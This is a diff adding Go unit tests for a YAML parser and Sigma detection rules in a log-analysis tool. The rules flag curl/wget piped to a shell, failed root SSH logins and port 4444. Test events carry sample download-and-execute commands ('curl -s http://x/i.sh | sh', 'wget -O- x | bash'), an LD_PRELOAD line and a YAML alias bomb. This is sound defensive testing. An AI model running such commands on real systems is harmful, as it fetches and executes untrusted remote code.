@@ -0,0 +1,236 @@
+package sigma
+
+import (
+	"reflect"
+	"strings"
+	"testing"
+
+	"iron-sentinel/analyzers/logs"
+)
+
+func TestParseYAMLDocuments(t *testing.T) {
+	tests := []struct {
+		name string
+		src  string
+		want []interface{}
+	}{
+		{
+			name: "block sequence",
+			src:  "a:\n  - x\n  - y\n",
+			want: []interface{}{map[string]interface{}{"a": []interface{}{"x", "y"}}},
+		},
+		{
+			name: "flow sequence",
+			src:  "a: [x, 'y z', \"w\"]\n",
+			want: []interface{}{map[string]interface{}{"a": []interface{}{"x", "y z", "w"}}},
+		},
+		{
+			name: "scalars stay strings",
+			src:  "id: 4688\nok: true\nv: 1.50\n",
+			want: []interface{}{map[string]interface{}{"id": "4688", "ok": "true", "v": "1.50"}},
+		},
+		{
+			name: "null",
+			src:  "a: null\nb: ~\nc:\n",
+			want: []interface{}{map[string]interface{}{"a": nil, "b": nil, "c": nil}},
+		},
+		{
+			name: "quoted",
+			src:  "a: 'it''s: here'\nb: \"tab\\there\"\n",
+			want: []interface{}{map[string]interface{}{"a": "it's: here", "b": "tab\there"}},
+		},
+		{
+			name: "multi-line",
+			src:  "a: |\n  one\n  two\nb: >\n  one\n  two\n",
+			want: []interface{}{map[string]interface{}{"a": "one\ntwo\n", "b": "one two\n"}},
+		},
+		{
+			name: "alias",
+			src:  "a: &x [p, q]\nb: *x\n",
+			want: []interface{}{map[string]interface{}{"a": []interface{}{"p", "q"}, "b": []interface{}{"p", "q"}}},
+		},
+		{
+			name: "documents",
+			src:  "a: 1\n---\n---\nb: 2\n",
+			want: []interface{}{map[string]interface{}{"a": "1"}, map[string]interface{}{"b": "2"}},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := parseYAMLDocuments(tt.src)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if !reflect.DeepEqual(got, tt.want) {
+				t.Errorf("got %#v, want %#v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestParseYAMLDocumentsErrors(t *testing.T) {
+	tests := []struct {
+		name string
+		src  string
+		want string
+	}{
+		{"syntax", "a: [x\n", "line"},
+		{"complex key", "? [a, b]\n: c\n", "mapping keys must be scalars"},
+		{"undefined alias", "a: *x\n", "unknown anchor"},
+		{
+			name: "alias expansion",
+			src: `a: &a [x, x, x, x, x, x, x, x, x, x]
+b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a, *a]
+c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b, *b]
+d: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c, *c]
+e: &e [*d, *d, *d, *d, *d, *d, *d, *d, *d, *d]
+f: [*e, *e, *e, *e, *e, *e, *e, *e, *e, *e]
+`,
+			want: "too many nodes",
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			_, err := parseYAMLDocuments(tt.src)
+			if err == nil {
+				t.Fatal("parse succeeded")
+			}
+			if !strings.Contains(err.Error(), tt.want) {
+				t.Errorf("error %q does not mention %q", err, tt.want)
+			}
+		})
+	}
+}
+
+const testRules = `title: Curl piped to shell
+id: r1
+status: test
+level: high
+tags:
+  - attack.execution
+  - attack.t1059.004
+logsource:
+  product: linux
+  category: process_creation
+detection:
+  download:
+    Image|endswith:
+      - '/curl'
+      - '/wget'
+  pipe:
+    CommandLine|contains|all:
+      - '|'
+      - 'sh'
+  condition: download and pipe
+---
+title: Failed root login
+id: r2
+logsource:
+  product: linux
+  service: sshd
+detection:
+  keywords:
+    - 'Failed password for root'
+  condition: keywords
+---
+title: Windows only
+logsource:
+  product: windows
+detection:
+  sel:
+    EventID: 4688
+  condition: sel
+---
+title: Unsupported category
+logsource:
+  product: linux
+  category: network_connection
+detection:
+  sel:
+    DestinationPort: 4444
+  condition: sel
+`
+
+func TestRuleset(t *testing.T) {
+	rs := &Ruleset{}
+	rs.add("test.yml", testRules)
+	if len(rs.Rules) != 2 || rs.Ignored != 1 || len(rs.Skipped) != 1 {
+		t.Fatalf("rules=%d ignored=%d skipped=%v, want 2, 1 and one skipped", len(rs.Rules), rs.Ignored, rs.Skipped)
+	}
+	if !strings.Contains(rs.Skipped[0].Reason, "network_connection") {
+		t.Errorf("skip reason = %q", rs.Skipped[0].Reason)
+	}
+	curl, ssh := rs.Rules[0], rs.Rules[1]
+	if !reflect.DeepEqual(curl.Attack, []string{"T1059.004"}) {
+		t.Errorf("attack = %v", curl.Attack)
+	}
+
+	tests := []struct {
+		name string
+		rule *Rule
+		ev   Event
+		want bool
+	}{
+		{
+			name: "history pipe",
+			rule: curl,
+			ev:   historyProcess(logs.Record{Message: "curl -s http://x/i.sh | sh"}),
+			want: true,
+		},
+		{
+			name: "history no pipe",
+			rule: curl,
+			ev:   historyProcess(logs.Record{Message: "curl -o i.sh http://x/i.sh"}),
+		},
+		{
+			name: "history other program",
+			rule: curl,
+			ev:   historyProcess(logs.Record{Message: "mycurl http://x | sh"}),
+		},
+		{
+			name: "field names fold case",
+			rule: curl,
+			ev:   Event{Category: "process_creation", Fields: map[string]string{"image": "/usr/bin/wget", "commandline": "wget -O- x | bash"}},
+			want: true,
+		},
+		{
+			name: "keyword",
+			rule: ssh,
+			ev:   Event{Services: []string{"auth", "sshd"}, Message: "Failed password for root from 10.0.0.1"},
+			want: true,
+		},
+		{
+			name: "keyword wrong service",
+			rule: ssh,
+			ev:   Event{Services: []string{"sudo"}, Message: "Failed password for root"},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := tt.rule.Matches(&tt.ev); got != tt.want {
+				t.Errorf("Matches = %v, want %v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestHistoryImage(t *testing.T) {
+	tests := []struct {
+		cmd  string
+		want string
+	}{
+		{"curl http://x", "/curl"},
+		{"/usr/bin/curl http://x", "/usr/bin/curl"},
+		{"./run.sh", "./run.sh"},
+		{"LD_PRELOAD=/tmp/x.so A1=b ls -l", "/ls"},
+		{`"curl" x`, "/curl"},
+		{"=x ls", "/=x"},
+		{"", ""},
+		{"FOO=bar", ""},
+	}
+	for _, tt := range tests {
+		if got := historyImage(tt.cmd); got != tt.want {
+			t.Errorf("historyImage(%q) = %q, want %q", tt.cmd, got, tt.want)
+		}
+	}
+}